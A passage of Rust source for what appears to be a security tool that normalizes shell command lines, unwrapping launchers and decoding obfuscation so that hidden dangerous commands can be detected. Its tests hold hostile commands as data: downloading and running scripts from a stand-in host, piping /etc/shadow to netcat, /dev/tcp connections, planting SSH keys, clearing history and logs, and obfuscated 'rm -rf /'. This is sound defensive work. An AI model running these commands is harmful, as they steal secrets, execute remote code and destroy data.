            b'0'..=b'7' if dialect != Dialect::Echo => {
                let (value, used) = number(rest, 8, 3);
                out.push(value as u8);
                return Some(used);
            }
            _ => {
                out.extend_from_slice(&[b'\\', c]);
                return Some(1);
            }
        };
        out.push(byte);
        Some(1)
    }

    /// `\xHH` (a byte) or `\uHHHH` / `\UHHHHHHHH` (a character, UTF-8 encoded); without digits
    /// the escape stays as written.
    fn code_point(
        digits: &[u8],
        max: usize,
        written: &[u8],
        out: &mut Vec<u8>,
        unicode: bool,
    ) -> usize {
        let (value, used) = number(digits, 16, max);
        if used == 0 {
            out.extend_from_slice(written);
        } else if !unicode {
            out.push(value as u8);
        } else if let Some(ch) = char::from_u32(value) {
            out.extend_from_slice(ch.encode_utf8(&mut [0; 4]).as_bytes());
        }
        used
    }

    fn number(digits: &[u8], radix: u32, max: usize) -> (u32, usize) {
        let mut value = 0u32;
        let mut used = 0;
        for &d in digits.iter().take(max) {
            let Some(v) = char::from(d).to_digit(radix) else {
                break;
            };
            value = value.wrapping_mul(radix).wrapping_add(v);
            used += 1;
        }
        (value, used)
    }
}

mod launch {
    //! Launchers: commands that run another command (`sudo`, `env`, `nohup`, …) or hand a command
    //! string or argument list to a shell elsewhere (`bash -c`, `su -c`, `ssh host CMD`, …).

    use super::{Arg, MAX_LAUNCHERS, SHELLS, assignment, basename, join, lex};

    /// What a launcher hands on, to be read as commands in turn.
    pub(super) enum Nested {
        /// A command string, and the `via` labels for it (`bash -c`, then any decoders).
        Script { text: String, labels: Vec<String> },
        /// An argument list (`docker exec web sh -c …`).
        Argv { args: Vec<Arg>, label: String },
    }

    pub(super) struct Unwrapped {
        pub args: Vec<Arg>,
        pub via: Vec<String>,
        pub nested: Vec<Nested>,
    }

    enum Launch {
        /// Not a launcher, or one with nothing to run: the command is itself.
        Itself,
        /// Runs the command that starts this many words in.
        Runs(usize),
        /// Runs this argument list instead (`env -S 'rm -rf /'`).
        Respells(Vec<Arg>),
        /// Is the command, and hands these on.
        Hands(Vec<Nested>),
    }

    /// Strips launchers from the front; stops at the first command that is not one, or at a
    /// launcher with no command after it (`sudo -i` stays `sudo -i`: a root shell is a finding).
    pub(super) fn unwrap(mut args: Vec<Arg>) -> Unwrapped {
        let mut via = Vec::new();
        for _ in 0..MAX_LAUNCHERS {
            let Some(first) = args.first() else { break };
            match launcher(basename(&first.text), &args) {
                Launch::Runs(skip) if skip < args.len() => {
                    via.push(basename(&args[0].text).to_string());
                    args.drain(..skip);
                }
                Launch::Respells(next) if !next.is_empty() => {
                    via.push(basename(&args[0].text).to_string());
                    args = next;
                }
                Launch::Hands(nested) => return Unwrapped { args, via, nested },
                _ => break,
            }
        }
        Unwrapped {
            args,
            via,
            nested: Vec::new(),
        }
    }

    fn launcher(name: &str, args: &[Arg]) -> Launch {
        let runs = |spec: &Spec, operands_before: usize| {
            Launch::Runs(scan(args, spec).first + operands_before)
        };
        match name {
            "sudo" => sudo(args),
            "doas" => runs(&DOAS, 0),
            "env" => env(args),
            "nohup" | "builtin" | "unbuffer" | "setsid" => runs(&FLAGS, 0),
            "exec" => runs(&EXEC, 0),
            "nice" => runs(&NICE, 0),
            "stdbuf" => runs(&STDBUF, 0),
            "time" => runs(&TIME, 0),
            "xargs" => runs(&XARGS, 0),
            "strace" => runs(&STRACE, 0),
            "ltrace" => runs(&LTRACE, 0),
            // The duration, and the new root, come before the command.
            "timeout" => runs(&TIMEOUT, 1),
            "chroot" => runs(&CHROOT, 1),
            "ionice" => ionice(args),
            "command" => command(args),
            "busybox" => busybox(args),
            "runuser" => runuser(args),
            "su" => hands_option(args, &SU, "su -c"),
            "script" => hands_option(args, &SCRIPT, "script -c"),
            "eval" => hands_script(operands(args, 1), "eval".to_string()),
            "alias" => alias(args),
            "watch" => watch(args),
            "ssh" => ssh(args),
            "docker" | "podman" | "nerdctl" => container_exec(name, args),
            "kubectl" | "oc" => kubectl_exec(name, args),
            "find" => find_exec(args),
            _ if SHELLS.contains(&name) => shell(name, args),
            // Anything else is itself, unless it is an interpreter one-liner that shells out.
            _ => interpreter(name, args),
        }
    }

    /// `perl -e '…system("rm -rf /")…'`, `python3 -c 'import os; os.system("…")'`: the shell
    /// commands a one-liner passes to its language's shell-out calls, when they are literals.
    fn interpreter(name: &str, args: &[Arg]) -> Launch {
        let Some(flag) = super::interpreter_flag(name) else {
            return Launch::Itself;
        };
        let program = args[1..].iter().enumerate().find_map(|(i, arg)| {
            let text = arg.text.as_str();
            if text == flag || (name == "perl" && text == "-E") {
                args.get(i + 2)
                    .filter(|a| !a.opaque)
                    .map(|a| a.text.clone())
            } else {
                None
            }
        });
        let Some(program) = program else {
            return Launch::Itself;
        };
        let label = format!("{name} {flag}");
        let commands: Vec<Nested> = shell_outs(&program, name.starts_with("node"))
            .into_iter()
            .map(|text| Nested::Script {
                text,
                labels: vec![label.clone()],
            })
            .collect();
        if commands.is_empty() {
            Launch::Itself
        } else {
            Launch::Hands(commands)
        }
    }

    /// Functions that run a command line through a shell, across the one-liner languages.
    const SHELL_OUT_CALLS: &[&str] = &[
        "system",
        "exec",
        "popen",
        "shell_exec",
        "passthru",
        "proc_open",
        "execSync",
        "getoutput",
        "getstatusoutput",
        "check_output",
        "check_call",
        "call",
        "run",
        "Popen",
    ];
    const MAX_SHELL_OUTS: usize = 16;

    /// String literals given to a shell-out call (`system "…"`, `os.system('…')`) and, outside
    /// JavaScript (where they are template strings), backtick commands.
    pub(super) fn shell_outs(program: &str, javascript: bool) -> Vec<String> {
        let bytes = program.as_bytes();
        let mut found = Vec::new();
        let mut i = 0;
        while i < bytes.len() && found.len() < MAX_SHELL_OUTS {
            let c = bytes[i];
            if c == b'`'
                && !javascript
                && let Some((body, end)) = literal(bytes, i)
            {
                found.push(body);
                i = end;
                continue;
            }
            let starts_word =
                i == 0 || !(bytes[i - 1].is_ascii_alphanumeric() || bytes[i - 1] == b'_');
            if starts_word && (c.is_ascii_alphabetic() || c == b'_') {
                let end = bytes[i..]
                    .iter()
                    .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
                    .map_or(bytes.len(), |n| i + n);
                let word = &program[i..end];
                if SHELL_OUT_CALLS.contains(&word) {
                    let mut j = end;
                    while j < bytes.len() && (bytes[j] == b' ' || bytes[j] == b'(') {
                        j += 1;
                    }
                    if let Some((body, after)) = literal(bytes, j) {
                        found.push(body);
                        i = after;
                        continue;
                    }
                }
                i = end;
                continue;
            }
            i += 1;
        }
        found
    }

    /// The quoted literal starting at `start` (`"`, `'` or a backtick), unescaped, and the
    /// index after its closing quote.
    fn literal(bytes: &[u8], start: usize) -> Option<(String, usize)> {
        let quote = *bytes.get(start)?;
        if !matches!(quote, b'"' | b'\'' | b'`') {
            return None;
        }
        let mut body = Vec::new();
        let mut i = start + 1;
        while let Some(&b) = bytes.get(i) {
            match b {
                b'\\' if i + 1 < bytes.len() => {
                    let next = bytes[i + 1];
                    if next != quote && next != b'\\' {
                        body.push(b'\\');
                    }
                    body.push(next);
                    i += 2;
                }
                b if b == quote => {
                    return Some((String::from_utf8_lossy(&body).into_owned(), i + 1));
                }
                b => {
                    body.push(b);
                    i += 1;
                }
            }
        }
        None
    }

    /// Options of one launcher: short letters that take a value, long names that take one,
    /// whether options may follow operands (GNU permutation) and whether `+x` forms exist.
    pub(super) struct Spec {
        valued: &'static str,
        long_valued: &'static [&'static str],
        permute: bool,
        plus: bool,
    }

    const fn posix(valued: &'static str, long_valued: &'static [&'static str]) -> Spec {
        Spec {
            valued,
            long_valued,
            permute: false,
            plus: false,
        }
    }

    const fn permuting(valued: &'static str, long_valued: &'static [&'static str]) -> Spec {
        Spec {
            valued,
            long_valued,
            permute: true,
            plus: false,
        }
    }

    const FLAGS: Spec = posix("", &[]);
    const SUDO: Spec = posix(
        "ughpCDrtTU",
        &[
            "user",
            "group",
            "host",
            "prompt",
            "close-from",
            "chdir",
            "role",
            "type",
            "command-timeout",
            "other-user",
        ],
    );
    const DOAS: Spec = posix("uC", &[]);
    const ENV: Spec = posix("uCS", &["unset", "chdir", "split-string"]);
    const EXEC: Spec = posix("a", &[]);
    const NICE: Spec = posix("n", &["adjustment"]);
    const IONICE: Spec = posix("cnpPu", &["class", "classdata", "pid", "pgid", "uid"]);
    const STDBUF: Spec = posix("ioe", &["input", "output", "error"]);
    const TIME: Spec = posix("fo", &["format", "output"]);
    const XARGS: Spec = posix(
        "nIPdLsEa",
        &[
            "max-args",
            "replace",
            "max-procs",
            "delimiter",
            "max-lines",
            "max-chars",
            "eof",
            "arg-file",
            "process-slot-var",
        ],
    );
    const STRACE: Spec = posix(
        "abeEIoOpPsSuX",
        &["output", "trace", "signal", "string-limit", "user", "env"],
    );
    const LTRACE: Spec = posix("aADeFlnopsuwx", &["output", "library"]);
    const TIMEOUT: Spec = posix("sk", &["signal", "kill-after"]);
    const CHROOT: Spec = posix("", &["userspec", "groups"]);
    const SU: Spec = permuting(
        "cgGsw",
        &[
            "command",
            "session-command",
            "group",
            "supp-group",
            "shell",
            "whitelist-environment",
        ],
    );
    const RUNUSER: Spec = permuting(
        "cgGswu",
        &[
            "command",
            "session-command",
            "group",
            "supp-group",
            "shell",
            "whitelist-environment",
            "user",
        ],
    );
    const RUNUSER_AS: Spec = posix(
        "gGswu",
        &[
            "group",
            "supp-group",
            "shell",
            "whitelist-environment",
            "user",
        ],
    );
    const SCRIPT: Spec = permuting(
        "cBEIOTmo",
        &[
            "command",
            "log-io",
            "log-in",
            "log-out",
            "log-timing",
            "echo",
            "output-limit",
            "logging-format",
        ],
    );
    const WATCH: Spec = posix("nq", &["interval", "equexit"]);
    const SSH: Spec = posix("BbcDEeFIiJLlmOoPpQRSWw", &[]);
    const CONTAINER_EXEC: Spec = posix(
        "euw",
        &["env", "env-file", "user", "workdir", "detach-keys"],
    );
    const KUBECTL_EXEC: Spec = posix(
        "cnf",
        &[
            "container",
            "namespace",
            "filename",
            "context",
            "kubeconfig",
            "cluster",
            "user",
            "server",
            "token",
            "pod-running-timeout",
        ],
    );
    pub(super) const SHELL: Spec = Spec {
        valued: "oO",
        long_valued: &["rcfile", "init-file"],
        permute: false,
        plus: true,
    };
    pub(super) const BASE64: Spec = posix("w", &["wrap"]);

    #[derive(Clone, Copy)]
    enum OptValue<'a> {
        /// The next argument.
        Arg(&'a Arg),
        /// Attached: `-uroot`, `--user=root`.
        Attached(&'a str),
    }

    impl OptValue<'_> {
        fn to_arg(self) -> Arg {
            match self {
                OptValue::Arg(arg) => arg.clone(),
                OptValue::Attached(text) => Arg::literal(text.to_string()),
            }
        }
    }

    struct Opt<'a> {
        name: &'a str,
        value: Option<OptValue<'a>>,
    }

    /// The options before a launcher's command, read getopt-style.
    pub(super) struct Scan<'a> {
        /// Index of the first operand (`args.len()` when there is none).
        pub first: usize,
        opts: Vec<Opt<'a>>,
    }

    impl<'a> Scan<'a> {
        pub(super) fn has(&self, names: &[&str]) -> bool {
            self.opts.iter().any(|o| names.contains(&o.name))
        }

        fn value(&self, names: &[&str]) -> Option<OptValue<'a>> {
            self.opts
                .iter()
                .find(|o| names.contains(&o.name) && o.value.is_some())
                .and_then(|o| o.value)
        }
    }

    /// Reads `args[1..]` (`args[0]` is the launcher) as getopt would with `spec`.
    pub(super) fn scan<'a>(args: &'a [Arg], spec: &Spec) -> Scan<'a> {
        let mut opts = Vec::new();
        let mut first = None;
        let mut i = 1;
        while let Some(arg) = args.get(i) {
            let text = arg.text.as_str();
            if text == "--" {
                first.get_or_insert(i + 1);
                break;
            }
            if let Some(long) = text.strip_prefix("--") {
                let (name, mut value) = match long.split_once('=') {
                    Some((name, value)) => (name, Some(OptValue::Attached(value))),
                    None => (long, None),
                };
                if value.is_none() && spec.long_valued.contains(&name) {
                    i += 1;
                    value = args.get(i).map(OptValue::Arg);
                }
                opts.push(Opt { name, value });
            } else if text.len() > 1
                && (text.starts_with('-') || (spec.plus && text.starts_with('+')))
            {
                i = short_options(args, i, spec, &mut opts);
            } else {
                first.get_or_insert(i);
                if !spec.permute {
                    break;
                }
            }
            i += 1;
        }
        Scan {
            first: first.unwrap_or(args.len()).min(args.len()),
            opts,
        }
    }

    /// A cluster like `-Eu root` or `-uroot`; returns the index of the last argument it used.
    fn short_options<'a>(
        args: &'a [Arg],
        mut i: usize,
        spec: &Spec,
        opts: &mut Vec<Opt<'a>>,
    ) -> usize {
        let cluster = &args[i].text[1..];
        for (at, c) in cluster.char_indices() {
            let end = at + c.len_utf8();
            let name = &cluster[at..end];
            if spec.valued.contains(c) {
                let attached = &cluster[end..];
                let value = if attached.is_empty() {
                    i += 1;
                    args.get(i).map(OptValue::Arg)
                } else {
                    Some(OptValue::Attached(attached))
                };
                opts.push(Opt { name, value });
                break;
            }
            opts.push(Opt { name, value: None });
        }
        i
    }

    /// `args[from..]` without a leading `--`.
    fn operands(args: &[Arg], from: usize) -> &[Arg] {
        let rest = args.get(from..).unwrap_or_default();
        match rest.split_first() {
            Some((dashes, tail)) if dashes.text == "--" => tail,
            _ => rest,
        }
    }

    /// Hands `args`, joined, to a shell; not when the string is only known at run time.
    fn hands_script(args: &[Arg], label: String) -> Launch {
        let (text, decoders) = match args {
            [] => return Launch::Itself,
            [arg] if arg.output.is_some() => {
                let output = arg.output.as_ref().map(|v| (v.text.clone(), v.labels()));
                output.unwrap_or_default()
            }
            _ if args.iter().any(|a| a.opaque) => return Launch::Itself,
            _ => (join(args), Vec::new()),
        };
        let labels = std::iter::once(label).chain(decoders).collect();
        Launch::Hands(vec![Nested::Script { text, labels }])
    }

    /// `alias name='BODY' …`: each body is read as the command it will run. Defining an alias
    /// for a forbidden command is worth an alert before anyone types the alias.
    fn alias(args: &[Arg]) -> Launch {
        let bodies: Vec<Nested> = operands(args, 1)
            .iter()
            .filter(|arg| !arg.opaque)
            .filter_map(|arg| assignment(&arg.text).map(|(_, _, value)| value.to_string()))
            .filter(|body| !body.trim().is_empty())
            .map(|text| Nested::Script {
                text,
                labels: vec!["alias".to_string()],
            })
            .collect();
        if bodies.is_empty() {
            Launch::Itself
        } else {
            Launch::Hands(bodies)
        }
    }

    /// `su -c BODY`, `script -c BODY`: the command string is an option's value.
    fn hands_option(args: &[Arg], spec: &Spec, label: &str) -> Launch {
        match scan(args, spec).value(&["c", "command", "session-command"]) {
            Some(value) => hands_script(&[value.to_arg()], label.to_string()),
            None => Launch::Itself,
        }
    }

    /// `sudo -i`/`sudo -s` with no command, or `su [-] [user]` without `-c`: an interactive
    /// shell (root's, or another user's), which reads commands from standard input.
    pub(super) fn starts_a_shell(args: &[Arg]) -> bool {
        match args.first().map(|a| basename(&a.text)) {
            Some("sudo") => {
                let scan = scan(args, &SUDO);
                scan.first >= args.len() && scan.has(&["i", "s", "login", "shell"])
            }
            Some("su") => scan(args, &SU)
                .value(&["c", "command", "session-command"])
                .is_none(),
            _ => false,
        }
    }

    fn sudo(args: &[Arg]) -> Launch {
        let scan = scan(args, &SUDO);
        // Editing, listing and validating run no command.
        let runs_nothing = [
            "e",
            "l",
            "v",
            "V",
            "K",
            "edit",
            "list",
            "validate",
            "version",
            "remove-timestamp",
        ];
        if scan.has(&runs_nothing) {
            return Launch::Itself;
        }
        // `sudo [options] [NAME=value…] cmd`: the assignments set the command's environment.
        let mut command = scan.first;
        while args
            .get(command)
            .is_some_and(|a| assignment(&a.text).is_some())
        {
            command += 1;
        }
        Launch::Runs(command)
    }

    /// `env [-i] [-u NAME] [NAME=value…] [-S 'cmd args'] cmd…`.
    fn env(args: &[Arg]) -> Launch {
        let scan = scan(args, &ENV);
        let mut command = scan.first;
        while args
            .get(command)
            .is_some_and(|a| a.text == "-" || assignment(&a.text).is_some())
        {
            command += 1;
        }
        let Some(split) = scan.value(&["S", "split-string"]) else {
            return Launch::Runs(command);
        };
        let words = lex::tokenize(&split.to_arg().text, super::MAX_DEPTH)
            .into_iter()
            .filter_map(|token| match token {
                lex::Token::Word(word) => Some(Arg::literal(word.literal())),
                _ => None,
            })
            .skip_while(|a| assignment(&a.text).is_some());
        Launch::Respells(words.chain(args[command..].iter().cloned()).collect())
    }

    fn ionice(args: &[Arg]) -> Launch {
        let scan = scan(args, &IONICE);
        // `ionice -p PID` changes a running process.
        if scan.has(&["p", "P", "u", "pid", "pgid", "uid"]) {
            Launch::Itself
        } else {
            Launch::Runs(scan.first)
        }
    }

    /// `command rm` runs rm; `command -v rm` only looks it up.
    fn command(args: &[Arg]) -> Launch {
        let scan = scan(args, &FLAGS);
        if scan.has(&["v", "V"]) {
            Launch::Itself
        } else {
            Launch::Runs(scan.first)
        }
    }

    fn busybox(args: &[Arg]) -> Launch {
        match args.get(1) {
            Some(applet) if !applet.text.starts_with('-') => Launch::Runs(1),
            _ => Launch::Itself,
        }
    }

    /// `runuser -u USER -- cmd` runs cmd; `runuser [-l] USER -c BODY` hands BODY to a shell.
    fn runuser(args: &[Arg]) -> Launch {
        let as_user = scan(args, &RUNUSER_AS);
        if as_user.has(&["u", "user"]) {
            return Launch::Runs(as_user.first);
        }
        hands_option(args, &RUNUSER, "runuser -c")
    }

    /// `watch 'BODY'` runs BODY with `sh -c` (its words joined); `watch -x cmd args` runs them.
    fn watch(args: &[Arg]) -> Launch {
        let scan = scan(args, &WATCH);
        let command = args.get(scan.first..).unwrap_or_default();
        if command.is_empty() {
            Launch::Itself
        } else if scan.has(&["x", "exec"]) {
            Launch::Hands(vec![Nested::Argv {
                args: command.to_vec(),
                label: "watch".to_string(),
            }])
        } else {
            hands_script(command, "watch".to_string())
        }
    }

    /// `ssh [options] host cmd…`: the remote shell runs the words after the host, joined.
    fn ssh(args: &[Arg]) -> Launch {
        // OpenSSH reads options after the host too (`ssh host -t cmd`).
        let host = scan(args, &SSH).first;
        let after_host = args.get(host..).unwrap_or_default();
        let command = after_host.get(scan(after_host, &SSH).first..);
        hands_script(command.unwrap_or_default(), "ssh".to_string())
    }

    /// `docker exec [options] CONTAINER cmd…` (also `docker container exec`, podman, nerdctl).
    fn container_exec(name: &str, args: &[Arg]) -> Launch {
        let word = |i: usize| args.get(i).map(|a| a.text.as_str());
        let at = match (word(1), word(2)) {
            (Some("exec"), _) => 1,
            (Some("container"), Some("exec")) => 2,
            _ => return Launch::Itself,
        };
        let exec = &args[at..];
        let command = exec
            .get(scan(exec, &CONTAINER_EXEC).first + 1..)
            .unwrap_or_default();
        hands_argv(command, format!("{name} exec"))
    }

    /// `kubectl exec [options] POD [--] cmd…`.
    fn kubectl_exec(name: &str, args: &[Arg]) -> Launch {
        let Some(at) = args
            .iter()
            .take_while(|a| a.text != "--")
            .position(|a| a.text == "exec")
        else {
            return Launch::Itself;
        };
        let exec = &args[at..];
        let command = match exec.iter().position(|a| a.text == "--") {
            Some(dashes) => &exec[dashes + 1..],
            None => exec
                .get(scan(exec, &KUBECTL_EXEC).first + 1..)
                .unwrap_or_default(),
        };
        hands_argv(command, format!("{name} exec"))
    }

    fn hands_argv(command: &[Arg], label: String) -> Launch {
        if command.is_empty() {
            return Launch::Itself;
        }
        Launch::Hands(vec![Nested::Argv {
            args: command.to_vec(),
            label,
        }])
    }

    /// `find … -exec cmd {} \;` (and `-execdir`, `-ok`, `-okdir`, ending `;` or `+`).
    fn find_exec(args: &[Arg]) -> Launch {
        let mut nested = Vec::new();
        let mut i = 1;
        while i < args.len() {
            if matches!(
                args[i].text.as_str(),
                "-exec" | "-execdir" | "-ok" | "-okdir"
            ) {
                let start = i + 1;
                let end = args[start..]
                    .iter()
                    .position(|a| a.text == ";" || a.text == "+")
                    .map_or(args.len(), |n| start + n);
                if end > start {
                    nested.push(Nested::Argv {
                        args: args[start..end].to_vec(),
                        label: "find -exec".to_string(),
                    });
                }
                i = end;
            }
            i += 1;
        }
        if nested.is_empty() {
            Launch::Itself
        } else {
            Launch::Hands(nested)
        }
    }

    /// `bash [options] -c BODY [name args…]`, flags clustered or not (`-lc`, `-x -c`).
    fn shell(name: &str, args: &[Arg]) -> Launch {
        let scan = scan(args, &SHELL);
        if !scan.has(&["c"]) {
            return Launch::Itself;
        }
        let body = args.get(scan.first..scan.first + 1).unwrap_or_default();
        hands_script(body, format!("{name} -c"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    /// CPU time this thread has used: the bound a line may cost, unaffected by other work on
    /// the machine (wall time failed these tests whenever builds ran beside them).
    fn thread_cpu_time() -> Duration {
        let mut now = libc::timespec {
            tv_sec: 0,
            tv_nsec: 0,
        };
        // SAFETY: `now` is a valid timespec to write; CLOCK_THREAD_CPUTIME_ID is always there
        // on Linux.
        let status = unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut now) };
        assert_eq!(status, 0, "clock_gettime(CLOCK_THREAD_CPUTIME_ID) failed");
        Duration::new(now.tv_sec as u64, now.tv_nsec as u32)
    }

    fn texts(line: &str) -> Vec<String> {
        normalize(line).into_iter().map(|c| c.text).collect()
    }

    /// The entry with this text; fails listing what there was.
    fn entry(line: &str, text: &str) -> NormalizedCommand {
        normalize(line)
            .into_iter()
            .find(|c| c.text == text)
            .unwrap_or_else(|| panic!("no {text:?} in {:?}", texts(line)))
    }

    fn via(line: &str, text: &str) -> Vec<String> {
        entry(line, text).via
    }

    fn has(line: &str, text: &str) -> bool {
        texts(line).iter().any(|t| t == text)
    }

    // --- tokenising -------------------------------------------------------------------------

    #[test]
    fn single_quotes_keep_spaces_inside_one_word() {
        let cmd = entry(
            "grep 'Failed password' /var/log/auth.log",
            "grep Failed password /var/log/auth.log",
        );
        assert_eq!(cmd.argv, ["grep", "Failed password", "/var/log/auth.log"]);
        assert!(cmd.via.is_empty());
    }

    #[test]
    fn double_quotes_unescape_quote_backslash_dollar_and_backtick() {
        let cmd = &normalize(r#"echo "say \"hi\" to \$USER at \\srv \`id\` \n""#)[0];
        assert_eq!(cmd.argv, ["echo", r#"say "hi" to $USER at \srv `id` \n"#]);
    }

    #[test]
    fn backslash_outside_quotes_escapes_the_next_character() {
        assert_eq!(texts(r"r\m -rf /tmp/build"), ["rm -rf /tmp/build"]);
        assert_eq!(texts(r"\rm -rf /tmp/build"), ["rm -rf /tmp/build"]);
    }

    #[test]
    fn empty_quotes_inside_a_word_vanish() {
        assert_eq!(texts("r''m -rf /"), ["rm -rf /"]);
        assert_eq!(texts(r#"r""m -rf /"#), ["rm -rf /"]);
        assert_eq!(texts(r#"c'a't /etc/sha"d"ow"#), ["cat /etc/shadow"]);
    }

    #[test]
    fn empty_quotes_alone_make_an_empty_argument() {
        let cmd = &normalize("ssh-keygen -t ed25519 -N '' -f /tmp/k")[0];
        assert_eq!(
            cmd.argv,
            ["ssh-keygen", "-t", "ed25519", "-N", "", "-f", "/tmp/k"]
        );
    }

    #[test]
    fn ansi_c_quoting_decodes_hex_octal_and_unicode_escapes() {
        assert_eq!(texts(r"$'\x72\x6d' -rf /"), ["rm -rf /"]);
        assert_eq!(texts(r"$'\162\155' -rf /"), ["rm -rf /"]);
        assert_eq!(texts(r"$'\u0072'm -rf /"), ["rm -rf /"]);
        let cmd = &normalize(r"printf %s $'a\tb\nc\\d\'e'")[0];
        assert_eq!(cmd.argv[2], "a\tb\nc\\d'e");
    }

    #[test]
    fn runs_of_spaces_and_tabs_separate_words_once() {
        assert_eq!(texts("  ls \t -la\t\t/root   "), ["ls -la /root"]);
    }

    #[test]
    fn hash_at_a_word_start_comments_out_the_rest_of_the_line() {
        assert_eq!(texts("ls -la # && rm -rf /"), ["ls -la"]);
        assert_eq!(texts("echo a#b"), ["echo a#b"]);
    }

    #[test]
    fn backslash_newline_continues_the_line() {
        assert_eq!(texts("rm \\\n  -rf /var/www"), ["rm -rf /var/www"]);
    }

    // --- operators and groups ---------------------------------------------------------------

    #[test]
    fn list_operators_separate_commands_in_order() {
        assert_eq!(
            texts("cd /tmp && wget http://203.0.113.9/x.sh && chmod +x x.sh && ./x.sh"),
            [
                "cd /tmp",
                "wget http://203.0.113.9/x.sh",
                "chmod +x x.sh",
                "x.sh"
            ]
        );
        assert_eq!(
            texts("history -c; unset HISTFILE || true & \n id"),
            ["history -c", "unset HISTFILE", "true", "id"]
        );
    }

    #[test]
    fn pipeline_is_reported_whole_then_stage_by_stage() {
        let line = "cat /etc/shadow | grep root|nc 203.0.113.9 4444";
        assert_eq!(
            texts(line),
            [
                "cat /etc/shadow | grep root | nc 203.0.113.9 4444",
                "cat /etc/shadow",
                "grep root",
                "nc 203.0.113.9 4444",
            ]
        );
        assert_eq!(normalize(line)[0].argv, ["cat", "/etc/shadow"]);
    }

    #[test]
    fn pipe_with_stderr_is_a_pipe() {
        assert_eq!(
            texts("make |& tee build.log"),
            ["make | tee build.log", "make", "tee build.log"]
        );
    }

    #[test]
    fn subshell_and_brace_group_contents_are_commands() {
        assert_eq!(
            texts("(cd /var/log && rm -f auth.log); { history -c; exit; }"),
            ["cd /var/log", "rm -f auth.log", "history -c", "exit"]
        );
    }

    #[test]
    fn group_inside_a_pipeline_is_rendered_with_its_commands() {
        let line = "{ echo id; echo whoami; } | sh";
        assert_eq!(
            entry(line, "{ echo id; echo whoami; } | sh").argv,
            Vec::<String>::new()
        );
        assert!(has(line, "echo whoami"));
        assert_eq!(
            texts("(curl -s http://203.0.113.9/x) | bash")[0],
            "curl -s http://203.0.113.9/x | bash"
        );
    }

    #[test]
    fn control_flow_keywords_are_not_commands() {
        assert_eq!(
            texts("if id -u deploy; then userdel -r deploy; else echo none; fi"),
            ["id -u deploy", "userdel -r deploy", "echo none"]
        );
        assert_eq!(
            texts(r#"for f in /var/log/*.log; do shred -u "$f"; done"#),
            ["shred -u $f"]
        );
        assert_eq!(
            texts("while true; do nc -lvp 4444; done < /dev/null"),
            ["true", "nc -lvp 4444"]
        );
        assert_eq!(texts("! grep -q x /etc/hosts"), ["grep -q x /etc/hosts"]);
    }

    #[test]
    fn case_patterns_are_not_commands() {
        let line = "case $1 in start|restart) systemctl restart sshd;; stop) rm -f /run/x;; esac";
        assert_eq!(texts(line), ["systemctl restart sshd", "rm -f /run/x"]);
    }

    #[test]
    fn function_bodies_are_commands_and_the_name_is_not() {
        assert_eq!(
            texts("wipe() { rm -rf /tmp/x; }; wipe"),
            ["rm -rf /tmp/x", "wipe"]
        );
        assert_eq!(
            texts("function wipe { shred /dev/sda; }"),
            ["shred /dev/sda"]
        );
    }

    #[test]
    fn redirections_are_kept_as_words_after_the_command() {
        let line = "echo 'ssh-rsa AAAAB3 k' >>/root/.ssh/authorized_keys 2>&1";
        let cmd = &normalize(line)[0];
        assert_eq!(
            cmd.text,
            "echo ssh-rsa AAAAB3 k >> /root/.ssh/authorized_keys 2>&1"
        );
        assert_eq!(cmd.argv, ["echo", "ssh-rsa AAAAB3 k"]);
        assert_eq!(
            texts("cat</etc/shadow>/tmp/s"),
            ["cat < /etc/shadow > /tmp/s"]
        );
    }

    #[test]
    fn a_redirection_alone_is_a_command() {
        assert_eq!(texts("> /var/log/auth.log"), ["> /var/log/auth.log"]);
        assert_eq!(
            texts("exec 3<>/dev/tcp/203.0.113.9/443"),
            ["exec 3<> /dev/tcp/203.0.113.9/443"]
        );
    }

    #[test]
    fn brace_expansion_of_a_comma_list_makes_words() {
        assert_eq!(texts("{cat,/etc/shadow}"), ["cat /etc/shadow"]);
        assert_eq!(
            texts("find . -exec ls {} +"),
            ["find . -exec ls {} +", "ls {}"]
        );
    }

    // --- substitutions and variables ----------------------------------------------------------

    #[test]
    fn command_substitution_stays_in_the_word_and_its_body_is_reported() {
        let entries = normalize("kill -9 $(pgrep -f auditd)");
        assert_eq!(entries[0].text, "kill -9 $(pgrep -f auditd)");
        assert_eq!(entries[1].text, "pgrep -f auditd");
        assert_eq!(entries[1].via, ["$()"]);
    }

    #[test]
    fn backticks_are_command_substitution() {
        let line = "echo `curl -s http://203.0.113.9/k` >> ~/.ssh/authorized_keys";
        assert_eq!(
            texts(line)[0],
            "echo `curl -s http://203.0.113.9/k` >> ~/.ssh/authorized_keys"
        );
        assert_eq!(via(line, "curl -s http://203.0.113.9/k"), ["$()"]);
    }

    #[test]
    fn process_substitution_body_is_reported() {
        assert_eq!(
            via("diff <(ls /etc) <(ls /backup/etc)", "ls /backup/etc"),
            ["<()"]
        );
    }

    #[test]
    fn arithmetic_expansion_is_not_a_command() {
        assert_eq!(texts("sleep $((60*5))"), ["sleep $((60*5))"]);
    }

    #[test]
    fn known_substitution_output_is_put_into_the_command() {
        let line = "$(echo cm0= | base64 -d) -rf /";
        assert_eq!(texts(line)[0], line);
        assert_eq!(via(line, "rm -rf /"), ["$()"]);
        assert_eq!(via(r"sudo r$()m -rf /", "rm -rf /"), ["sudo", "$()"]);
        assert!(has("w`echo`hoami", "whoami"));
        assert!(!has("$(curl -s http://203.0.113.9/c) -rf /", "-rf /"));
    }

    #[test]
    fn a_variable_assigned_a_known_substitution_output_is_substituted() {
        assert!(has("a=$(echo cm0= | base64 -d); $a -rf /", "rm -rf /"));
    }

    #[test]
    fn unknown_variables_are_left_as_written() {
        assert_eq!(
            texts(r#"rm -rf "$HOME/.ssh" ${TMPDIR}/x $1"#),
            ["rm -rf $HOME/.ssh ${TMPDIR}/x $1"]
        );
    }

    #[test]
    fn variables_assigned_a_literal_on_the_line_are_substituted() {
        assert_eq!(texts("A=rm; $A -rf /"), ["A=rm", "rm -rf /"]);
        assert!(has("a=r;b=m; $a$b -rf /", "rm -rf /"));
        assert!(has("export c=shadow; cat /etc/${c}", "cat /etc/shadow"));
    }

    #[test]
    fn an_unquoted_variable_splits_into_words() {
        let line = "X='rm -rf /var/lib/mysql'; $X";
        assert_eq!(
            entry(line, "rm -rf /var/lib/mysql").argv,
            ["rm", "-rf", "/var/lib/mysql"]
        );
        assert_eq!(
            entry(r#"X='a b'; echo "$X""#, "echo a b").argv,
            ["echo", "a b"]
        );
    }

